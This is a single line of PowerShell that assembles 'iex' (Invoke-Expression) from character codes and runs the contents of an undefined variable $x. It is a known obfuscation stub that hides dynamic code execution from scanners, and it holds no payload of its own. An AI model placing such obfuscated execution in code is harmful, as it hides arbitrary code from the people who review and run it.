& ([char]105+[char]101+[char]120) $x
